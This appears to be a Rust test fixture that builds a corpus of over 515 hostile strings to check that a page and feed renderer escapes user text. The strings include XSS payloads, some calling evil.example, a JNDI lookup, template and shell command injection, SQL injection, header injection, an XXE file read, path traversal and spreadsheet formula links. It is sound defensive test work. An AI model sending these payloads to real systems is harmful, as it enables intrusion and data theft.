//! More than 515 texts that have been markup, scripts, templates, or the end of something, to some program: made of
//! classes, so that every way out of a place meets every thing to do outside of it.

use std::collections::BTreeSet;

/// As many as the list has that goes round; there are some more.
pub(crate) const COUNT: usize = 515;

/// What ends the place that a text stands in.
const WAYS_OUT: [&str; 14] = [
    "",
    "\">",
    "'>",
    "\"/>",
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</bdi></a>",
    "</option></select>",
    "-->",
    "]]>",
    "</content></entry>",
];

/// What may come then.
const ELEMENTS: [&str; 16] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;\">",
    "<object data=data:text/html,x>",
    "<!--",
    "<plaintext>",
];

/// What ends a value, or does not.
const QUOTES: [&str; 7] = ["\"", "'", "`", "\" ", "' ", "\\\"", "\\'"];

/// What may stand beside a value.
const ATTRIBUTES: [&str; 9] = [
    "onmouseover=alert(1)",
    "onmouseover=\"alert(1)",
    "autofocus onfocus='alert(1)",
    "style=position:fixed;inset:0",
    "href=javascript:alert(1)",
    "accesskey=x onclick=alert(1)",
    "formaction=//evil.example",
    "id=main class=note",
    "/><b>",
];

/// Ways to spell an element that some program took for one.
const SPELLINGS: [&str; 24] = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<script\t>alert(1)</script\t>",
    "<script\n>alert(1)</script\n>",
    "<script\u{c}>alert(1)</script\u{c}>",
    "<\u{0}script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "< script>alert(1)</ script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script",
    "</script",
    "<img src=x:x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}alert(1)\u{2039}/script\u{203a}",
    "<\u{200b}script>alert(1)</script>",
    "<s\u{301}cript>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
];

/// Beginnings of addresses that must lead nowhere.
const SCHEMES: [&str; 14] = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\u{1}javascript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "file:///etc/passwd#",
    "blob:https://evil.example/",
    "view-source:http://",
];

/// What stands behind them.
const BEHIND: [&str; 2] = ["alert(1)", "//%0aalert(1)//\"'<b>"];

/// Links that are not what they seem.
const LINKS: [&str; 26] = [
    "http://a\"onmouseover=alert(1)",
    "http://a.example/\"onmouseover=alert(1)//",
    "http://a.example/'onmouseover='alert(1)",
    "http://a.example/<script>alert(1)</script>",
    "http://a.example/?a=\"><script>alert(1)</script>",
    "http://a.example/?a=1&b=2&amp;c=3",
    "http://a.example/#\"'><b>",
    "http://a.example/`onclick=alert(1)`",
    "http://bank.example@evil.example/<b>",
    "http://bank.example:80@evil.example/",
    "http://bank.example\\@evil.example/",
    "http://bank.example%40evil.example/",
    "http://bank.example\u{2044}evil.example/",
    "http://\u{202e}elpmaxe.knab/\"",
    "http://bank.example\u{200b}.evil.example/",
    "http://b\u{430}nk.example/",
    "http://xn--bnk-3ed.example/\"x",
    "http://[::1]/\"><b>",
    "http://[::1\"onload=x]/",
    "http://a.example:80\"x/",
    "http://a.example:99999/<",
    "http:///\"evil.example/<b>",
    "https:evil.example\"",
    "//evil.example/\"><b>",
    "http://a.example/\u{2028}<b>",
    "(http://a.example/<b>).\"",
];

/// Names and tags with something behind them.
const MARKS: [&str; 12] = [
    "@ben<script>alert(1)</script>",
    "@ben\"onclick=alert(1)",
    "@\"><b>",
    "@ben'@ada\"@mina<",
    "@ada/../../<b>",
    "#seeds<script>alert(1)</script>",
    "#seeds\"onclick=alert(1)",
    "#\"><b>",
    "#'#\"#<#&",
    "#&#60;b&#62;",
    "@@@###<<<>>>",
    "#se\u{202e}eds<b>",
];

/// Text that is escaped already, or looks so.
const ENTITIES: [&str; 30] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3E;alert(1)",
    "&#0000060;b&#0000062;",
    "&#60b&#62",
    "&ltb&gt",
    "&LT;b&GT;",
    "&amp;lt;b&amp;gt;",
    "&amp;amp;amp;",
    "&amp",
    "&",
    "&&&&",
    "&;",
    "&#;",
    "&#x;",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&#99999999999;",
    "&quot; onclick=&quot;alert(1)",
    "&#34; onclick=&#34;alert(1)",
    "&#39; onclick=&#39;alert(1)",
    "&apos;&quot;&nbsp;&shy;",
    "&NewLine;&Tab;&colon;&lpar;",
    "&notanentity;<b>",
    "&lt;![CDATA[<b>]]&gt;",
    "&entity;&%pe;",
    "&bsol;\"&bsol;'",
    "&zwnj;&lrm;&rlm;<b>",
    "&amp;#60;script&amp;#62;",
];

/// What a program fills in.
const TEMPLATES: [&str; 24] = [
    "{{ 7 * 7 }}",
    "{{ frame.title|safe }}",
    "{% raw %}<b>{% endraw %}",
    "{% include \"frame.html\" %}",
    "{# <b> #}",
    "{{{ 7 * 7 }}}",
    "<%= 7 * 7 %>",
    "<%- system('id') %>",
    "<?php system('id'); ?>",
    "<?= 7 * 7 ?>",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "*{7*7}",
    "[[${7*7}]]",
    "@(7*7)",
    "~{<b>}",
    "${{<%[%'\"}}%\\.",
    "$(id)",
    "`id`",
    "|id<b",
    "; id #\"",
    "!!python/object:os.system \"id\"",
    "__proto__[\"<b>\"]",
];

/// What ends something for a program that keeps, sends or prints.
const ENDS: [&str; 37] = [
    "\r\nSet-Cookie: s=1\r\n\r\n<b>",
    "\nSet-Cookie: s=1",
    "%0d%0aSet-Cookie:%20s=1",
    "\u{560a}\u{560d}Location: //evil.example<",
    "\u{2028}<b>\u{2029}",
    "\u{85}<b>",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "\") OR (\"1\"=\"1",
    "1;--<b>",
    "\\",
    "\\\"<b>\\",
    "\\n<b>\\r",
    "\\u0022<b>",
    "\"}],\"e\":\"posted\",\"text\":\"<b>",
    "\"}\n{\"e\":\"deleted\"}",
    "null\"",
    "{\"$gt\":\"<b>\"}",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]]]><![CDATA[><b>",
    "<xml:namespace prefix=\"t\"><t:set/>",
    "<entry><title type=\"html\">x</title></entry>",
    "</feed><b>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<!ELEMENT b ANY>",
    "../../../etc/passwd\"",
    "..\\..\\windows\\<b>",
    "/dev/null; touch /tmp/x &",
    "%s%n%x<b>",
    "%",
    "%%<b>%00",
    "%c0%bcscript%c0%be",
    "=1+1\";<b>",
    "=HYPERLINK(\"http://evil.example\",\"<b>\")",
    "\" level=info msg=\"signed in\" user=ada",
    "\u{1b}[2J\u{1b}[31m<b>\u{1b}]0;x\u{7}",
];

/// Characters that one does not see, that turn round what stands beside them, or that are none.
const CHARACTERS: [char; 40] = [
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{2800}',
    '\u{3000}',
    '\u{3164}',
    '\u{d7ff}',
    '\u{e000}',
    '\u{f8ff}',
    '\u{fdd0}',
    '\u{fdfd}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{fff9}',
    '\u{fffc}',
    '\u{fffd}',
    '\u{ffff}',
    '\u{1f468}',
    '\u{e0001}',
    '\u{e007f}',
    '\u{10ffff}',
];

/// Letters whose case, form or order surprises.
const LETTERS: [&str; 14] = [
    "İıſK<b>",
    "ßẞŉǰ\"",
    "ﬁﬂﬃ<b>",
    "Å\u{c5}A\u{30a}\"'",
    "ＳＣＲＩＰＴ<script>",
    "мир<b>мир",
    "שלום<b>\"",
    "العربية<b>'",
    "ᚠᛇᚻ᛫ᛒᛦᚦ&",
    "👩‍👩‍👧‍👦<b>🏳️‍🌈\"",
    "H\u{334}\u{321}\u{35c}E\u{335}\u{489}C\u{336}O\u{337}<b>",
    "Ṱ̺̺̕o͞<b> ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟",
    "田中さん<b>\"にあげて",
    "๏̯͡๏\"><b>",
];

/// All of them, each once.
pub(crate) fn all() -> Vec<String> {
    let mut all = BTreeSet::new();
    for way_out in WAYS_OUT {
        all.extend(ELEMENTS.map(|element| format!("{way_out}{element}")));
    }
    for quote in QUOTES {
        all.extend(ATTRIBUTES.map(|attribute| format!("x{quote}{attribute}")));
    }
    for scheme in SCHEMES {
        all.extend(BEHIND.map(|behind| format!("{scheme}{behind}")));
    }
    let lists: [&[&str]; 7] = [&SPELLINGS, &LINKS, &MARKS, &ENTITIES, &TEMPLATES, &ENDS, &LETTERS];
    all.extend(lists.concat().into_iter().map(str::to_owned));
    all.extend(CHARACTERS.map(|hidden| format!("a{hidden}<b>{hidden}\"'&")));
    for control in ('\0'..' ').chain('\u{7f}'..'\u{a0}') {
        all.insert(format!("a{control}<b>{control}\"'&"));
    }
    all.extend(["<", ">", "\"", "'", "&"].map(|one| one.repeat(40)));
    assert!(all.len() >= COUNT, "{} naughty texts", all.len());
    all.into_iter().collect()
}

/// What a page or a feed is made of, whatever the texts in it say.
#[derive(Debug, PartialEq)]
pub(crate) struct Skeleton {
    /// Its tags with the values of their attributes left out; first what stands before them.
    pub(crate) tags: Vec<String>,
    /// Quotes in texts and `'` in values, none of which a text may have brought.
    pub(crate) quotes: usize,
}

impl Skeleton {
    /// That of a page, each `&` of which stands for a character.
    #[track_caller]
    pub(crate) fn of(html: &str) -> Self {
        for after in html.split('&').skip(1) {
            let entity = after.split_once(';').map(|(name, _)| name);
            let is_known =
                entity.is_some_and(|name| ["#60", "#62", "#34", "#39", "#38"].contains(&name));
            assert!(is_known, "not escaped: &{after:.20}");
        }
        let (mut tags, mut quotes) = (Vec::new(), 0);
        for (n, part) in html.split('<').enumerate() {
            let (tag, values, text) =
                if n == 0 { (String::new(), 0, part) } else { tag_and_text(part) };
            quotes += values + text.matches(['"', '\'']).count();
            // Links and lines in texts come and go with the text.
            if !tag.starts_with("a href=") && !["/a", "br/"].contains(&tag.as_str()) {
                tags.push(tag);
            }
        }
        Self { tags, quotes }
    }
}

/// What stands between one `<` and the next: the tag without its values, how many `'` these hold, and the
/// text behind it.
fn tag_and_text(part: &str) -> (String, usize, &str) {
    let (mut tag, mut values) = (String::new(), 0);
    let mut rest = part;
    let mut is_value = false;
    while let Some(at) = rest.find(['"', '>']) {
        let (piece, after) = (&rest[..at], &rest[at + 1..]);
        let is_end = rest[at..].starts_with('>');
        if is_value {
            values += piece.matches('\'').count();
        } else {
            tag.push_str(piece);
        }
        match (is_end, is_value) {
            (true, false) => return (tag, values, after),
            // It ends nothing there.
            (true, true) => {}
            (false, _) => is_value = !is_value,
        }
        rest = after;
    }
    (tag, values, rest)
}
